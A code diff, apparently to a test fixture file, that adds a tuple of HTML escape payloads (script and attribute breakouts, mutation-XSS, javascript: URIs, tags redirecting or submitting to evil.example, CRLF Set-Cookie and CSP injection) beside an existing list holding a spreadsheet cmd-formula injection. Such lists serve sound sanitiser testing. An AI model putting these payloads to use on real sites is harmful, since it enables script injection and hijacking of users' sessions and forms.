@@ -24,3 +24,27 @@ HOSTILE = (
     "=cmd|' /C calc'!A0",
     "noncharacters \ufffe\uffff\ufdd0 \U0001fffe",
 )
+
+# What breaks out of one kind of place: an attribute, a script, a style, a comment, a redirect.
+ESCAPES = (
+    "</title><script>alert(1)</script>",
+    "</script><script>alert(1)</script>",
+    "--><script>alert(1)</script><!--",
+    '"><img src=x onerror=alert(1)>',
+    "' autofocus onfocus=alert(1) x='",
+    "`-alert(1)-`${alert(1)}",
+    "javascript:alert(1)",
+    "java\tscript:alert(1)",
+    "data:text/html,<script>alert(1)</script>",
+    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src onerror=1&gt;'>",
+    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
+    '<iframe srcdoc="<script>alert(1)</script>">',
+    "<base href=//evil.example>",
+    '<meta http-equiv=refresh content="0;url=//evil.example">',
+    "<form action=//evil.example><button>x",
+    "<link rel=stylesheet href=//evil.example>",
+    "<form id=htmx><input name=config></form><a id=body name=title>x",
+    "&lt;script&gt;alert(1)&lt;/script&gt;&#60;img src=x onerror=alert(1)&#62;",
+    "//evil.example/%0d%0aSet-Cookie:x=1",
+    "x; script-src 'unsafe-inline' *; frame-ancestors *",
+)
